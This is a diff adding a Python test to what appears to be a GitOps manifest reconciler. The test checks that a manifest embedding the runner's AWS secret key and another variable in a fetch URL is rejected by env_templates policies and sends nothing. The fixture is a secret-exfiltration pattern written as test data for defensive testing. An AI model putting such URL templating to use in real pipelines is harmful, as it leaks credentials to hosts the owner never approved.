@@ -352,6 +352,65 @@ def test_a_plan_executes_nothing_from_manifests_and_resolves_no_secret(
     assert not marker.exists()
 
 
+def test_a_template_sends_only_what_the_base_s_policies_allow_and_where(
+    repo: GitOpsRepo, http_server: str
+) -> None:
+    """A merged manifest's fetch resolved any variable of the runner's environment (the
+    store's credentials among them) into a URL of the pull request's choosing; the pull
+    request's plan passed with no word, and the scheduled run sent it."""
+    security = repo.root / "policies" / "security.yaml"
+    security.write_text(
+        security.read_text().replace(
+            "env_templates: {}", 'env_templates: {WEATHER_KEY: ["https://api.weather.example/"]}'
+        )
+    )
+    repo.commit("base allowing one key, for one host")
+    events = f"""
+    - kind: SetPollingSource
+      fetch:
+        kind: Url
+        url: "{http_server}/d.csv?k=${{{{ env.AWS_SECRET_ACCESS_KEY }}}}&w=${{{{ env.WEATHER_KEY }}}}"
+      read: {{kind: Csv, header: true, schema: [a BIGINT, b STRING]}}
+      merge: {{kind: Append}}
+    """
+    repo.write("org.example.a", manifest("org.example.a", "Root", events))
+    repo.commit("a source that sends the runner's secrets elsewhere")
+    env = {**os.environ, "AWS_SECRET_ACCESS_KEY": "s3cr3t-value", "WEATHER_KEY": "w-key"}
+    code, document = plan_json(repo, "--base", "HEAD~1", env=env)
+    assert code == 1
+    url = f"{http_server}/d.csv?k=${{{{ env.AWS_SECRET_ACCESS_KEY }}}}&w=${{{{ env.WEATHER_KEY }}}}"
+    message = (
+        "a fetch sends the runner's environment variables only where the policies allow; ask"
+        " the owners of policies/ to add the variable, with the addresses its value may go"
+        " to, to the env_templates rule"
+    )
+    found = document["verdicts"]
+    assert [
+        (v["policy"], v["message"], v["location"]) for v in found if v["policy"] == "env-templates"
+    ] == [
+        (
+            "env-templates",
+            "env.AWS_SECRET_ACCESS_KEY at content.metadata[0].fetch.url: no env_templates"
+            f" rule allows AWS_SECRET_ACCESS_KEY: {message}",
+            {"file": "datasets/org.example.a.yaml", "line": 10, "column": 14},
+        ),
+        (
+            "env-templates",
+            f"env.WEATHER_KEY at content.metadata[0].fetch.url is sent to {url!r}, and"
+            " WEATHER_KEY may go only to addresses starting with"
+            f" 'https://api.weather.example/': {message}",
+            {"file": "datasets/org.example.a.yaml", "line": 10, "column": 14},
+        ),
+    ]
+    # Merged past its plan: the run plans with the checkout's policies, and sends nothing.
+    applied = reconcile(repo, "apply", "--yes", env=env)
+    assert applied.returncode == 1
+    assert "nothing was applied" in applied.stderr + applied.stdout
+    assert "s3cr3t-value" not in applied.stdout + applied.stderr
+    assert _Recorder.requests == []
+    assert not (repo.root / "odf").exists()
+
+
 def test_the_kamu_fixture_manifests_plan_with_every_unsupported_feature_named(
     repo: GitOpsRepo,
 ) -> None:
